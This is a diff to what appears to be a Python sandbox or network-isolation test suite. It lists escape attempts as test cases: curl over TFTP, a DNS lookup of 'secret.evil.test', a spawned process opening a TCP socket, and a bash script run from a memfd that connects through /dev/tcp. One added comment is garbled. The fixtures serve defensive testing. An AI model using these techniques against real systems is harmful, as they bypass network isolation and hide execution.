@@ -99,8 +99,8 @@ ATTACKS: dict[str, tuple[str, bool, bool, str]] = {
     "curl, UDP": ("udp", False, True, "subprocess.run(['curl', '-s', '-m', '1', f'tftp://{H}:{UDP}/x'])"),
     "a look-up of libc's": ("dns", False, True, "subprocess.run(['getent', 'hosts', 'secret.evil.test'])"),
     "vfork": ("tcp", False, True, "os.waitpid(os.posix_spawn('/usr/bin/env', ['env', sys.executable, '-I', '-S', '-c', f'import socket; socket.create_connection((\"{H}\", {TCP}))'], os.environ), 0)"),
-    "a program in memory": (
-        "tcp", False, True,
+    "a program in memory": (  # not heard of where programs are on a list: there is no such memory then
+        "tcp", False, False,
         "m = os.memfd_create('x', 0); os.write(m, f'#!/bin/bash\\n: > /dev/tcp/{H}/{TCP}\\n'.encode()); os.waitpid(os.posix_spawn(f'/proc/self/fd/{m}', ['x'], {}), 0)",
     ),
     # Lifecycle
